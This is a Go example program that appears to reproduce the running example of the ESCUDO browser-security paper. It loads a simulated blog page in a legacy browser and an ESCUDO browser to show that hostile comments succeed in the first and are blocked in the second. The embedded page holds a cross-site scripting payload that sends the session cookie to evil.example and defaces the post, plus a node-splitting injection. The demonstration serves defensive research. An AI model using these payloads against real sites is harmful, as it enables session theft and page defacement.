// The blog example reproduces the paper's running example (Figures 2
// and 3): a blog page whose original post sits in ring 2 and whose
// user comments sit in ring 3, each scope sealed with a markup
// randomization nonce. A hostile comment carries (a) a script that
// tries to deface the post and steal cookies and (b) a node-splitting
// injection that tries to escape into ring 0. The example loads the
// page twice — in a legacy same-origin-policy browser and in the
// ESCUDO browser — and shows the attacks succeed in the first and die
// in the second.
//
// Run with:
//
//	go run ./examples/blog
package main

import (
	"fmt"
	"strings"

	escudo "repro"

	"repro/internal/html"
)

// blogPage is served with the page's ESCUDO configuration. The
// comment content is attacker-controlled and unsanitized: the blog's
// first-line defenses are assumed bypassed (§1), so only the
// protection model stands between the comment and the post.
const blogPage = `<html>
<head><title>My Blog</title></head>
<body>
<div ring=1 r=1 w=1 x=1 id=chrome nonce=5550001><h1 id=banner>My Blog</h1></div>
<div ring=2 r=2 w=0 x=2 id=post nonce=5550002>
  <p id=postbody>Today I learned about protection rings.</p>
</div nonce=5550002>
<div ring=3 r=2 w=2 x=2 id=comment1 nonce=5550003>
  Great post!
</div nonce=5550003>
<div ring=3 r=2 w=2 x=2 id=comment2 nonce=5550004>
  <script id=hostile>
    var stolen = document.cookie;
    var img = new Image();
    img.src = "http://evil.example/steal?c=" + encodeURIComponent(stolen);
    document.getElementById("postbody").innerText = "BUY CHEAP WATCHES";
  </script>
</div nonce=5550004>
<div ring=3 r=2 w=2 x=2 id=comment3 nonce=5550005>
  </div><div ring=0 id=forged><script id=splitter>document.getElementById("banner").innerText = "PWNED";</script></div>
</div nonce=5550005>
</body></html>`

func main() {
	site := escudo.MustParseOrigin("http://blog.example")
	evil := escudo.MustParseOrigin("http://evil.example")

	for _, mode := range []escudo.BrowserMode{escudo.ModeSOP, escudo.ModeEscudo} {
		fmt.Printf("=== Loading the blog in a %s browser ===\n\n", strings.ToUpper(mode.String()))

		net := escudo.NewNetwork()
		net.Register(site, escudo.HandlerFunc(func(req *escudo.Request) *escudo.Response {
			resp := escudo.HTMLResponse(blogPage)
			resp.Header.Set("X-Escudo-Maxring", "3")
			resp.Header.Add("Set-Cookie", "blogsession=s3cr3t; Path=/")
			resp.Header.Add("X-Escudo-Cookie", "blogsession; ring=1; r=1; w=1; x=1")
			return resp
		}))
		net.Register(evil, escudo.HandlerFunc(func(req *escudo.Request) *escudo.Response {
			return escudo.HTMLResponse("")
		}))

		b, err := escudo.New(net, escudo.WithMode(mode))
		if err != nil {
			panic(err)
		}
		// Establish the session first (the cookie the attack wants).
		if _, err := b.Navigate("http://blog.example/"); err != nil {
			panic(err)
		}
		p, err := b.Navigate("http://blog.example/")
		if err != nil {
			panic(err)
		}

		postText := html.InnerText(p.Doc.ByID("postbody"))
		bannerText := html.InnerText(p.Doc.ByID("banner"))
		fmt.Printf("  post body:  %q\n", strings.TrimSpace(postText))
		fmt.Printf("  banner:     %q\n", strings.TrimSpace(bannerText))

		stolen := "nothing"
		for _, e := range net.FindRequests(evil, nil) {
			if strings.Contains(e.URL, "steal") {
				if i := strings.Index(e.URL, "c="); i >= 0 {
					stolen = e.URL[i+2:]
				}
			}
		}
		fmt.Printf("  exfiltrated cookie: %s\n", stolen)
		if forged := p.Doc.ByID("forged"); forged != nil {
			fmt.Printf("  node-splitting div landed in ring %d\n", forged.Ring)
		}
		if len(p.ScriptErrors) > 0 {
			fmt.Println("  denials during page load:")
			for _, e := range p.ScriptErrors {
				fmt.Printf("    - %v\n", firstLine(e.Error()))
			}
		}
		fmt.Println()
	}

	fmt.Println("Under SOP every comment script speaks with the page's full")
	fmt.Println("authority; under ESCUDO the comment is a ring-3 principal that")
	fmt.Println("can neither read the ring-1 cookie, nor write the ring-2 post,")
	fmt.Println("nor escape its nonce-sealed scope (paper §4.3, §5).")
}

func firstLine(s string) string {
	if i := strings.IndexByte(s, '\n'); i >= 0 {
		return s[:i]
	}
	return s
}
